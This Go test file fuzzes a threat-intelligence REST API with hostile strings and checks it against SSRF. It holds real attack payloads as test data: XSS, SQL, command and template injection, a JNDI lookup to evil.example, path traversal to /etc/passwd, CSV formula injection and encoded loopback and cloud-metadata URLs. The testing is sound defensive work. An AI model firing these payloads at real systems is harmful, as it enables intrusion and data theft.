package rest_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// hostileStrings are texts that have broken programs of this kind.
func hostileStrings() []string {
	list := []string{
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `data:text/html,<script>alert(1)</script>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`'"--></style></script><script>alert(1)</script>`, `<a href="jav&#x09;ascript:alert(1)">x</a>`, `<math><mi xlink:href="data:x,<script>alert(1)</script>">`, `<!--`, `-->`, `]]>`, `<![CDATA[x`, `&lt;script&gt;`, `&#x3C;script&#x3E;`, `\x3cscript\x3e`, `<style>*{background:url(//evil.example)}</style>`,
		`{{7*7}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{{constructor.constructor('alert(1)')()}}`, `${jndi:ldap://evil.example/a}`, `{{.}}`, `{{range $x := .}}{{end}}`, `%s%s%s%n%n`, `%d %x %p`, `{0}{1}`, `{name}`, `$(reboot)`, "`reboot`", `; rm -rf /`, `| cat /etc/passwd`, `&& id`,
		`' OR 1=1 --`, `'; DROP TABLE report; --`, `" OR ""="`, `1; SELECT pg_sleep(10)`, `') OR ('1'='1`, `\'; --`, `%' ESCAPE '\`, `_%_%`, `*)(uid=*))(|(uid=*`, `' or '1'='1' or ''='`, `NULL`, `null`, `undefined`, `NaN`, `Infinity`, `-0`, `1e309`, `0x7fffffff`, `99999999999999999999999`, `true`, `[]`, `{}`, `[object Object]`,
		`../../../../etc/passwd`, `..\..\..\windows\win.ini`, `/etc/passwd`, `file:///etc/passwd`, `C:\con\con`, `CON`, `NUL`, `aux.txt`, `.`, `..`, `/`, `\`, `\\evil.example\share`, `%2e%2e%2f`, `%00`, `%0d%0aSet-Cookie: a=b`, `..%c0%af`, `a/b/c`, `?`, `#`, `a?b#c`,
		"=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "=HYPERLINK(\"http://evil.example\")", `"=1"`, "a,b", "a;b", "a\"b", "a'b", "'=1", "a\nb", "a\r\nb", "a\tb",
		"\u202egnp.exe", "\u2066x\u2069", "a\u200bb", "a\u200db", "\ufeffx", "a\u00adb", "\u2028x", "\u2029x", "x\u0301\u0301\u0301\u0301", strings.Repeat("\u0301", 200), "\u115f", "\u3164", "\ufffc", "\ufffd", "\ufffe", "\uffff", "\U0001f600", "👩‍👩‍👧‍👦", "🏴\U000e0067\U000e0062\U000e007f", "\U0010ffff", "\U000f0000", "İstanbul", "ﬁle", "Ａ", "ⅷ", "ß", "ſ", "K", "银狐", "銀狐木馬", "ｅｖｉｌ．ｃｏｍ", "раураl.com", "xn--80ak6aa92e.com", "العربية", "\u200fעברית", "ไทย", "𝕖𝕧𝕚𝕝", "Z̸͎͝a̵l̷g̶o̴",
		"[link](javascript:alert(1))", "![x](http://evil.example/x.png)", "- [ ] x", "# x", "| a | b |", "---\na: b\n---", "!!python/object/apply:os.system [id]", "&a [*a,*a]", "a: *b", "%YAML 9", "a: &a\n  b: *a",
		"http://evil.example/" + strings.Repeat("a", 3000), "https://user:pass@evil.example:99999/", "http://[::1", "http://%zz", "hxxp://evil[.]example", "//evil.example", "mailto:a@b.example?subject=x%0ABcc:c@d.example", "a@b.example\nBcc: c@d.example", "tel:1", "x@[127.0.0.1]", `"very odd"@example.org`,
		"-", "--help", "-rf", "*", "**", "?*", "[a", "(a", "a)", `"a`, "NOT", "AND OR", "a AND (", "type:", "type:x:y", ":", "::", "tag:\"", "publishers:>", "score:>=99999999999999", "seen:2026-99-99", "value:*", "value:" + strings.Repeat("*a", 200), strings.Repeat("(", 500), strings.Repeat("a OR ", 300) + "a", strings.Repeat("NOT ", 200) + "a",
		"", " ", "   ", "\n", "\t", "\u00a0", "\u3000", "0", "1", "-1", strings.Repeat("x", 299), strings.Repeat("x", 301), strings.Repeat("é", 300), strings.Repeat("银", 1000), strings.Repeat("a ", 5000), strings.Repeat("x", 70_000), strings.Repeat("\u202e", 300),
		`\u0000`, `\ud800`, `\`, `\\`, `\"`, `\n`, "tlp:red", "TLP:CLEAR", "tlp:white", `misp-galaxy:threat-actor="x"`, `ns:pred="val"`, `ns:pred="val\"x"`, "a=b=c", "a:b:c:d", "expired", "admin", "system", "root", "me", "self", "0.0.0.0", "::", "1.2.3.4/33", "999.1.1.1", "127.0.0.1", "localhost", "example.com.", ".com", "a..b", "-a.com", "a_.com",
	}
	for c := range 0x20 {
		list = append(list, "c"+string(rune(c))+"d")
	}
	for c := 0x7f; c < 0xa0; c++ {
		list = append(list, "c"+string(rune(c))+"d")
	}
	for c := rune(0x2000); c < 0x2010; c++ {
		list = append(list, "z"+string(c)+"z")
	}
	return list
}

// fields makes, from one text, a request for every place that takes text.
func fields(s string, n int, ids map[string]string) map[string]object {
	u := s
	return map[string]object{
		"POST /reports":  {"title": u, "summary": u, "tags": []string{u}, "publisher": u, "url": u},
		"POST /reports ": {"title": fmt.Sprint("report ", n), "summary": u},
		"POST /reports/" + ids["report"] + "/claims":       {"claims": []object{{"value": u, "comment": u, "category": u}, {"value": fmt.Sprintf("good%d.evil-string.top", n), "comment": u}, {"value": "x.example", "type": u}}},
		"POST /reports/" + ids["report"] + "/notes":        {"body": u},
		"PATCH /reports/" + ids["report"]:                  {"summary": u},
		"PATCH /claims/" + ids["claim"]:                    {"comment": u},
		"POST /claims/review":                              {"claims": []string{ids["claim"]}, "state": "rejected", "reason": u, "comment": u},
		"POST /observables":                                {"claims": []object{{"value": u, "tags": []string{u}}, {"value": fmt.Sprintf("alone%d.evil-string.top", n), "comment": u}}},
		"POST /observables/" + ids["value"] + "/notes":     {"body": u},
		"POST /observables/" + ids["value"] + "/sightings": {"kind": "seen", "origin": u, "comment": u},
		"POST /lookup":                                     {"values": []string{u, "x" + u}},
		"POST /extract":                                    {"text": u, "keep_suppressed": true},
		"POST /drop":                                       {"text": u + "\nand seen" + fmt.Sprint(n) + ".evil-string.top", "title": u, "name": u, "tags": []string{u}},
		"POST /drop ":                                      {"url": u},
		"POST /tags":                                       {"name": u, "description": u, "colour": u},
		"POST /views":                                      {"name": u, "page": "reports", "query": u},
		"POST /watches":                                    {"name": u, "kind": "search", "query": u},
		"POST /channels":                                   {"kind": "webhook", "name": u, "config": object{"url": u}},
		"POST /assets":                                     {"value": u, "name": u, "comment": u, "tags": []string{u}},
		"POST /assets ":                                    {"kind": "brand", "value": u},
		"POST /playbooks":                                  {"body": "name: x\n" + u},
		"POST /playbooks/import":                           {"body": u},
		"POST /sources":                                    {"kind": "folder", "name": u, "publisher": u, "config": object{"path": u}, "schedule": u, "tags": []string{u}},
		"POST /exports":                                    {"name": u, "format": "text", "query": u},
		"POST /users":                                      {"email": u, "name": u},
		"POST /organisations":                              {"name": u, "description": u},
		"POST /roles":                                      {"name": u, "permissions": []string{u}},
		"POST /teams":                                      {"name": u, "description": u},
		"POST /sharing-groups":                             {"name": u, "description": u, "releasability": u},
		"PATCH /me":                                        {"name": u},
		"POST /me/keys":                                    {"name": u},
		"POST /session":                                    {"email": fmt.Sprint("nobody", n, "@example.org"), "password": u},
		"GET /search" + q("q", u):                          nil,
		"GET /reports" + q("q", u):                         nil,
		"GET /observables" + q("q", u):                     nil,
		"GET /export" + q("q", u, "format", "csv"):         nil,
		"GET /tags/suggest" + q("text", u):                 nil,
		"GET /assets" + q("q", u):                          nil,
		"GET /quarantine" + q("q", u):                      nil,
		"GET /audit" + q("action", u):                      nil,
		"GET /reports" + q("cursor", u):                    nil,
		"GET /observables" + q("cursor", u):                nil,
		"GET /reports/" + strings.ReplaceAll(q("", u)[2:], "+", "%20"): nil,
	}
}

// TestHostileStrings puts them into every text field there is. Each answer is an answer; what was taken comes
// back as it was; the good parts of a batch go in; nothing that leaves can do harm in a spreadsheet.
func TestHostileStrings(t *testing.T) {
	p := alone(t)
	list := hostileStrings()
	if len(list) < 300 {
		t.Fatalf("only %d texts", len(list))
	}
	ids := map[string]string{"report": p.boss.want(201, "POST", "/reports", object{"title": "base"}).text("id")}
	p.boss.want(200, "POST", "/reports/"+ids["report"]+"/claims", object{"claims": []object{{"value": "base.evil-string.top"}}})
	claim := p.boss.want(200, "GET", "/reports/"+ids["report"]+"/claims", nil).items()[0]
	ids["claim"], ids["value"] = claim.text("id"), claim.list("values")[0].text("id")
	var taken, refused atomic.Int64
	var all sync.WaitGroup
	next := make(chan int)
	for range 24 { // commits are shared
		all.Go(func() {
			for n := range next {
				yes, no := p.tryText(t, list[n], n, ids)
				taken.Add(yes)
				refused.Add(no)
			}
		})
	}
	for n := range list {
		next <- n
	}
	close(next)
	all.Wait()
	t.Logf("%d texts: %d requests taken, %d refused; peak %d MiB", len(list), taken.Load(), refused.Load(), p.peak())
	if taken.Load() < 1500 || refused.Load() < 500 {
		t.Error("the fields are not what they were")
	}
	good := []string{}
	for n := range list {
		good = append(good, fmt.Sprintf("alone%d.evil-string.top", n))
	}
	known := 0
	for _, x := range p.boss.want(200, "POST", "/lookup", object{"values": good}).items() {
		if x["known"] == true {
			known++
		}
	}
	if known < len(list)-40 { // a comment that cannot be kept takes its claim with it
		t.Errorf("of %d good claims beside hostile ones %d went in", len(list), known)
	}
	harmless(t, p)
	p.sound(t)
	if peak := p.peak(); peak > 700 {
		t.Errorf("the server took %d MiB", peak)
	}
}

// tryText sends one text everywhere, and counts what was taken and what was refused.
func (p *process) tryText(t *testing.T, s string, n int, ids map[string]string) (taken, refused int64) {
	for what, body := range fields(s, n, ids) {
		method, path, _ := strings.Cut(strings.TrimSpace(what), " ")
		first := strings.HasPrefix(path, "/search") || path == "/reports" || path == "/drop" || path == "/observables"
		if !first && (n+int(what[len(what)/2]))%3 != 0 {
			continue // every text meets a third of the other fields, and every field a third of the texts
		}
		who := p.boss
		if path == "/session" {
			if n%40 != 0 {
				continue // logins are slow on purpose
			}
			who = p.visitor()
		}
		var in any
		if body != nil {
			in = body
		}
		began := time.Now()
		got := who.send(method, path, in)
		if took := time.Since(began); took > slowest {
			t.Errorf("%q: %s %.100s took %v", clipped(s), method, path, took)
		}
		detail := got.body.text("detail")
		switch {
		case got.status >= 500 && (got.status != 503 || path != "/drop"): // 503: a host that cannot be found
			t.Errorf("%q: %s %.100s: %d %.400s", clipped(s), method, path, got.status, got.raw)
		case got.status >= 400 && (got.body.text("code") == "" || detail == "" || strings.Contains(detail, "{value}")):
			t.Errorf("%q: %s %.100s: an error that says nothing: %.400s", clipped(s), method, path, got.raw)
		case got.status >= 400:
			refused++
		default:
			taken++
		}
		if path == "/reports" && got.status == 201 && body["title"] == s {
			if back := p.boss.send("GET", "/reports/"+got.body.text("id"), nil).body.text("title"); back != strings.TrimSpace(s) || back == "" {
				t.Errorf("%q came back as %q", clipped(s), clipped(back))
			}
		}
	}
	return taken, refused
}

// slowest is how long any answer to a hostile text may take, on a busy machine.
const slowest = 5 * time.Second

func clipped(s string) string { return s[:min(len(s), 60)] }

// harmless reads every list and every export.
func harmless(t *testing.T, p *process) {
	t.Helper()
	for _, path := range []string{"/reports", "/observables", "/tags", "/views", "/watches", "/channels", "/assets", "/playbooks", "/sources", "/exports", "/users", "/organisations", "/roles", "/teams", "/sharing-groups", "/audit", "/quarantine", "/corrections", "/me", "/me/keys", "/home", "/export/count?all=true"} {
		if got := p.boss.send("GET", path, nil); got.status != 200 || got.body == nil {
			t.Errorf("%s: %d %.300s", path, got.status, got.raw)
		}
	}
	for _, format := range []string{"csv", "ndjson", "stix21", "misp", "text"} {
		got := p.boss.send("GET", "/export"+q("all", "true", "tlp", "red", "format", format), nil)
		if got.status != 200 || len(got.raw) < 1000 {
			t.Errorf("%s: %d %.300s", format, got.status, got.raw)
		}
		switch format {
		case "stix21", "misp":
			if !json.Valid(got.raw) {
				t.Errorf("%s is no JSON", format)
			}
		case "csv":
			rows, err := csv.NewReader(strings.NewReader(string(got.raw))).ReadAll()
			if err != nil || len(rows) < 300 {
				t.Errorf("csv: %d rows, %v", len(rows), err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("a cell that is a formula: %q", cell)
					}
				}
			}
		}
	}
}

// TestHostileFeeds sends the server to addresses where it has no business, straight and by redirects. Nothing
// ever arrives there.
func TestHostileFeeds(t *testing.T) {
	p := alone(t)
	listener, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skip("this machine has one loopback address only")
	}
	var knocked atomic.Int64
	canary := &httptest.Server{Listener: listener, Config: &http.Server{ReadHeaderTimeout: time.Second, Handler: http.HandlerFunc(func(http.ResponseWriter, *http.Request) { knocked.Add(1) })}}
	canary.Start()
	defer canary.Close()
	_, port, _ := net.SplitHostPort(listener.Addr().String())
	targets := []string{
		canary.URL, "http://2130706434:" + port, "http://0x7f000002:" + port, "http://0177.0.0.2:" + port, "http://127.2:" + port, "http://[::ffff:127.0.0.2]:" + port, "http://[::ffff:7f00:2]:" + port, "http://[64:ff9b::7f00:2]:" + port, "http://user@127.0.0.2:" + port,
		"http://169.254.169.254/latest/meta-data", "http://10.0.0.1/", "http://192.168.0.1/", "http://100.64.0.1/", "http://[::1]:" + port, "http://[fd00::1]/", "http://0.0.0.0:" + port, "file:///etc/passwd", "gopher://127.0.0.2:" + port, "ftp://127.0.0.2/", "http://①②⑦.0.0.2:" + port, "http:///etc/passwd", "dict://127.0.0.2:" + port,
	}
	mux := http.NewServeMux()
	for i, target := range targets {
		mux.HandleFunc(fmt.Sprintf("/redirect/%d", i), func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", target)
			w.WriteHeader(http.StatusFound)
		})
	}
	mux.HandleFunc("/loop", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/loop", http.StatusFound) })
	mux.HandleFunc("/feed", func(w http.ResponseWriter, _ *http.Request) {
		_, _ = fmt.Fprint(w, `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>`)
		for i, target := range targets {
			_, _ = fmt.Fprintf(w, `<item><title>direct %d</title><link>%s</link><guid>d%d</guid><description>feed%d.evil-feed.top</description></item><item><title>hop %d</title><link>http://%s/redirect/%d</link><guid>h%d</guid><description>hop%d.evil-feed.top</description></item>`, i, target, i, i, i, "HOST", i, i, i)
		}
		_, _ = fmt.Fprint(w, `</channel></rss>`)
	})
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/feed" {
			mux.ServeHTTP(w, r)
			return
		}
		rec := httptest.NewRecorder()
		mux.ServeHTTP(rec, r)
		w.Header().Set("Content-Type", "application/rss+xml")
		_, _ = fmt.Fprint(w, strings.ReplaceAll(rec.Body.String(), "HOST", r.Host))
	}))
	defer site.Close()
	for i, target := range append(targets, site.URL+"/loop") {
		for _, address := range []string{target, fmt.Sprintf("%s/redirect/%d", site.URL, i)} {
			for path, body := range map[string]object{
				"/drop": {"url": address}, "/drop/preview": {"url": address},
				"/sources/preview": {"draft": object{"kind": "rss", "config": object{"url": address}}}, "/sources/preview ": {"draft": object{"kind": "web", "config": object{"url": address}}},
				"/sources/preview  ": {"draft": object{"kind": "list", "config": object{"url": address}}}, "/sources/preview   ": {"draft": object{"kind": "misp", "config": object{"url": address}}},
			} {
				got := p.boss.send("POST", strings.TrimSpace(path), body)
				if got.status < 400 || got.status == 500 || len(got.body.text("detail")) < 10 {
					t.Errorf("%s %v: %d %.300s", path, body, got.status, got.raw)
				}
			}
			made := p.boss.send("POST", "/channels", object{"kind": "webhook", "name": fmt.Sprint(i, address), "config": object{"url": address}})
			if made.status == 201 {
				if got := p.boss.send("POST", "/channels/"+made.body.text("id")+"/test", nil); got.status < 400 || got.status == 500 {
					t.Errorf("a message to %s: %d %.300s", address, got.status, got.raw)
				}
			}
		}
	}
	src := p.boss.want(201, "POST", "/sources", object{"kind": "rss", "name": "Hostile", "config": object{"url": site.URL + "/feed"}, "schedule": "@every 1h", "enabled": true})
	run := p.ran(p.boss, src.text("id"))
	t.Logf("run: %.600v", run)
	if n := knocked.Load(); n != 0 {
		t.Errorf("the server reached where it must not, %d times", n)
	}
	p.sound(t)
}
